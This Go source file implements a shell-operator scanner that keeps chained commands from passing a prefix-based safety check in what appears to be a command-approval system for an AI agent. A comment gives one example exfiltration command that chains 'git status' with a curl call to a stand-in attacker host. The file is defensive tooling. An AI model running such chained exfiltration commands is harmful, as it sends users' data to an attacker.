package safety

import "strings"

// OperatorScan reports whether a command string contains shell
// metacharacters that make prefix matching unsafe, and which ones.
type OperatorScan struct {
	Found     bool
	Operators []string
}

// gatedOperators are scanned longest-first so that "&&" is reported as
// one operator rather than two, and ">>" before ">".
var gatedOperators = []string{
	"&&", "||", ">>", ";", "|", "`", "$(", ")", ">", "<", "\n",
}

// ScanOperators scans the entire command string for shell operators.
// The scan is deliberately not quote-aware: an operator inside quotes
// still gates the local safe matcher off, which only means the command
// falls through to the LLM tier. A benign-looking safe prefix chained
// with an unsafe suffix ("git status && curl evil.example/steal") must
// never be approved on the strength of its first segment.
func ScanOperators(cmd string) OperatorScan {
	var found []string
	remaining := cmd
	for _, op := range gatedOperators {
		if strings.Contains(remaining, op) {
			found = append(found, op)
			// Remove matched occurrences so "&&" is not also seen as
			// containing no further operators it already accounted for.
			remaining = strings.ReplaceAll(remaining, op, " ")
		}
	}
	return OperatorScan{Found: len(found) > 0, Operators: found}
}
